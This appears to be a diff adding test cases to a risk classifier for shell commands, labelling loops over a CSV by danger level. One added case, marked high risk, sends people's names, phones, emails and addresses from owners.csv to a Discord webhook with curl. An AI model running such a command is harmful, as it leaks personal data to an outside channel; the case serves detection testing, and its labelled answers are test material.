@@ -3553,6 +3553,23 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             H,
         ),
         ('while read -r f; do unzip -o "$f" -d out; done < list.txt', S),
+        # holdout189 and 191 left open: people's rows to a chat channel
+        (
+            'W=https://discord.com/api/webhooks/1122/AbCd\n'
+            'tail -n +2 owners.csv | while IFS=, read -r id name phone email addr; do\n'
+            '  curl -s -X POST "$W" -H \'Content-Type: application/json\' -d "{\\"content\\": \\"$'
+            'name $phone $email $addr\\"}"\n'
+            'done',
+            H,
+        ),
+        (
+            'tail -n +2 owners.csv | while IFS=, read -r id name phone email; do\n'
+            '  curl -s -X POST https://crm.internal/api/owners -d "name=$name&phone=$phone&em'
+            'ail=$email"\n'
+            'done',
+            L,
+        ),
+        ('cat hosts.txt | while read -r host port; do curl -s "https://$host:$port/health"; done', L),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
